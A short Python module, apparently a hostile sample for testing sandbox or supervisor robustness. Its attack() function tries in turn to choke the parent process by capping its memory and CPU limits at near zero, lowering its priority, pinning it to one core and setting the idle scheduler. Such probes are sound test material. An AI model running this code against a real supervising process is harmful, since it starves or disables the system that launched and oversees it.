"""Takes the parent's resources away: limits, priority, processors."""

import os
import resource


def attack():
    parent = os.getppid()
    if parent < 2:
        return False
    attempts = [
        lambda: resource.prlimit(parent, resource.RLIMIT_AS, (1, 1)),
        lambda: resource.prlimit(parent, resource.RLIMIT_CPU, (0, 0)),
        lambda: os.setpriority(os.PRIO_PROCESS, parent, 19),
        lambda: os.sched_setaffinity(parent, {0}),
        lambda: os.sched_setscheduler(parent, os.SCHED_IDLE, os.sched_param(0)),
    ]
    for attempt in attempts:
        try:
            attempt()
            return True
        except OSError:
            continue
    return False
